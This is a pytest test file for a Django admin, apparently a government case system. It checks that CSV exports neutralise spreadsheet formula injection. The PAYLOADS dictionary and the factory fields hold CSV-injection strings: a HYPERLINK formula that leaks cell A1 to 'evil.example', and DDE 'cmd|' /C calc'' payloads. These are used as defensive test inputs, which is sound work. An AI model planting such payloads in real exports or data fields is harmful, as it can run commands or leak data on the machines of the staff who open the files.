"""CSV exports from the admin are safe to open in a spreadsheet: no cell starts a formula (CSV injection)."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from tests.factories import OfficeFactory, SampleCaseFactory, StaffFactory

pytestmark = pytest.mark.django_db

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=cmd|' /C calc'!A0",
}


def export(client, url, pks):
    response = client.post(url, {"action": "export_csv", "_selected_action": pks})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def assert_inert(rows, payload):
    cells = [cell for row in rows for cell in row]
    assert all(not cell.startswith(DANGEROUS_FIRST) for cell in cells), cells
    assert "'" + payload in cells  # kept in full behind the quote, not dropped


@pytest.fixture
def sample_admin(client, no_mfa):
    office = OfficeFactory()
    officer = StaffFactory(office=office)
    officer.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="testapp", codename__in=["view_samplecase", "change_samplecase"]
        )
    )
    client.force_login(officer)
    return client, office


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_shared_export_neutralises_a_formula_typed_by_a_citizen(sample_admin, payload):
    client, office = sample_admin
    case = SampleCaseFactory(office=office, reason=payload)
    rows = export(client, reverse("admin:testapp_samplecase_changelist"), [case.pk])
    assert_inert(rows, payload)


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://e.x/")', "@SUM(1+9)*cmd|'/C calc'!A0"], ids=["equals", "at"])
def test_hukou_export_neutralises_a_formula_in_a_permit_number(staff_client, payload):  # permit numbers: 40 characters
    from accounts.models import Office
    from tests.factories import MigrationApplicationFactory

    zhengzhou = Office.objects.get(division_code="410100", kind=Office.Kind.CITY)
    luoyang = Office.objects.get(division_code="410300", kind=Office.Kind.CITY)
    offices = {
        "move_in": OfficeFactory(parent=zhengzhou),
        "municipal": OfficeFactory(kind=Office.Kind.HOUSEHOLD_ADMIN, division_code="410100", parent=zhengzhou),
        "move_out": OfficeFactory(division_code="410302", parent=luoyang),
    }
    move = MigrationApplicationFactory(offices=offices, submitted=True, permit_number=payload, complete=True)
    client = staff_client(StaffFactory(office=offices["move_in"]))
    rows = export(client, reverse("admin:hukou_migrationapplication_changelist"), [move.pk])
    assert move.case_number in rows[1]
    assert_inert(rows, payload)


def test_certificate_export_carries_no_citizen_free_text(staff_client, officer_a, station_a, no_tasks):
    from tests.factories import ApplicationFactory

    application = ApplicationFactory(
        office=station_a,
        holder_name="=cmd|'/C calc'!A0",
        receiving_organisation="@SUM(1)",
        reason_other="+1",
        reason="other",
    )
    rows = export(staff_client(officer_a), reverse("admin:certificates_application_changelist"), [application.pk])
    cells = [cell for row in rows for cell in row]
    assert application.case_number in cells
    assert all(not cell.startswith(DANGEROUS_FIRST) for cell in cells)
    assert not any("calc" in cell or "SUM" in cell for cell in cells)
    assert application.holder_id_number not in cells
